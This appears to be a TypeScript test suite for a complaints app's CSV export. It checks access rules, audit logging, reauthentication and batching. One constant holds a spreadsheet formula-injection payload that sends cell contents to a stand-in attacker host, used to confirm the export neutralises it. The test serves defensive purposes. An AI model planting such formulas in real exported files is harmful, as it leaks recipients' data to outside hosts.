import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { openApp } from '../../../../test/support/app.ts'
import { type Casework, casework, type Person } from '../../../../test/support/casework.ts'
import type { Server } from '../../../kit/http/server.ts'
import { sql } from '../../../kit/sql.ts'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

describe('a list taken out of the workspace', () => {
  let ground: Casework
  let server: Server
  before(async () => {
    ground = await casework()
    ;({ server } = await openApp(ground.db, ground.now))
  })
  after(async () => {
    await server.close()
    await ground.end()
  })

  const ask = async (person: Person, fields: Record<string, string>, at?: Server) => {
    const session = ground.cookie(person)
    const shown = await (at ?? server).inject({ url: '/work/export', cookies: { session } })
    const form = shown.cookies.find(({ name }) => name === 'form')?.value ?? ''
    const payload = { _csrf: /name="_csrf" value="([^"]+)"/.exec(shown.body)?.[1] ?? '', ...fields }
    return (at ?? server).inject({ method: 'POST', url: '/work/export', cookies: { session, form }, payload })
  }
  const rows = (text: string) => parse(text, { delimiter: ';', bom: true, columns: true }) as Record<string, string>[]
  const lines = async () => {
    const { rows: found } = await sql<{ facts: Record<string, unknown>; agency: string }>`
      select facts, agency_id as agency from core.ledger where act = 'complaint.list_exported' order by line_id`.execute(
      ground.db,
    )
    return found
  }

  it('is a CSV that Excel in Indonesia opens, with the cases of that list and nobody’s name', async () => {
    const drafted = await ground.caseIn('drafted', { title: FORMULA })
    const answer = await ask('one', { tab: 'mine', reason: 'report' })
    assert.equal(answer.statusCode, 200)
    assert.match(String(answer.headers['content-disposition']), /^attachment; filename="complaints-2026-11-24\.csv"$/)
    assert.match(String(answer.headers['content-type']), /^text\/csv/)
    assert.equal(answer.headers['cache-control'], 'private, no-store')
    assert.ok(answer.payload.startsWith('\ufeffNomor;Judul;'))
    const row = rows(answer.payload).find((one) => one.Nomor === drafted.number)
    assert.equal(row?.Judul, `'${FORMULA}`)
    assert.deepEqual(
      [row?.Status, row?.Dikirim, row?.Petugas],
      ['Jawaban sedang diperiksa', '2026-11-24', 'Satu Rekaan'],
    )
    assert.doesNotMatch(answer.payload, /Melati|melati@/)
  })

  it('holds exactly what the officer sees: no case of another agency, no secret one of a colleague', async () => {
    const secret = await ground.caseIn('accepted', { secret: true })
    const other = await ground.file({ agency: 'id.33.74' })
    const numbers = async (person: Person) =>
      rows((await ask(person, { tab: 'all', reason: 'audit' })).payload).map((row) => row.Nomor)
    const [two, one, head, elsewhere, overseer] = await Promise.all(
      (['two', 'one', 'head', 'elsewhere', 'overseer'] as const).map(numbers),
    )
    assert.deepEqual(
      [two, one, head].map((list) => list?.includes(secret.number)),
      [false, true, true],
    )
    assert.deepEqual(
      [two, head, elsewhere, overseer].map((list) => list?.includes(other.number)),
      [false, false, true, true],
    )
    assert.ok(!elsewhere?.includes(secret.number))
  })

  it('stands in the ledger: who, how many rows, which list, what for; and no word that was searched', async () => {
    await ask('head', { tab: 'all', q: 'rahasiasekali', reason: 'meeting' })
    const last = (await lines()).at(-1)
    assert.deepEqual(last, {
      facts: { rows: 0, reason: 'meeting', list: 'search', class: null, category: null, below: null },
      agency: 'id.32.73',
    })
    const { payload } = await ask('head', { tab: 'all', reason: 'meeting' })
    assert.equal((await lines()).at(-1)?.facts.rows, rows(payload).length)
    assert.ok(!JSON.stringify(await lines()).includes('rahasiasekali'))
  })

  it('is not given without a reason, nor to who sees no case, and then nothing is written', async () => {
    const before = (await lines()).length
    assert.equal((await ask('head', { tab: 'all' })).statusCode, 422)
    assert.equal((await ask('head', { tab: 'all', reason: 'x' })).statusCode, 422)
    assert.equal(
      (await server.inject({ url: '/work/export', cookies: { session: ground.cookie('system') } })).statusCode,
      404,
    )
    assert.equal((await server.inject({ url: '/work/export' })).statusCode, 401)
    assert.equal((await lines()).length, before)
  })

  it('asks for password and code first when the last proof is ten minutes old', async () => {
    const { server: late } = await openApp(ground.db, new Date(ground.now.getTime() + 10 * 60_000))
    const before = (await lines()).length
    const shown = await late.inject({ url: '/work/export?tab=mine', cookies: { session: ground.cookie('one') } })
    assert.equal(shown.statusCode, 403)
    assert.match(shown.body, /action="\/proof"/)
    assert.match(shown.body, /name="next" value="\/work\/export\?tab=mine"/)
    const sent = await ask('one', { tab: 'mine', reason: 'report' }, late)
    assert.equal(sent.statusCode, 403)
    assert.match(sent.body, /name="_carry" value="[^"]*report/)
    assert.equal((await lines()).length, before)
    await late.close()
  })

  it('comes in batches, each row once', async () => {
    for (let count = 0; count < 3; count++) await Promise.all(Array.from({ length: 200 }, () => ground.file()))
    const numbers = rows((await ask('head', { tab: 'verify', reason: 'analysis' })).payload).map((row) => row.Nomor)
    assert.ok(numbers.length >= 600)
    assert.equal(new Set(numbers).size, numbers.length)
  })
})
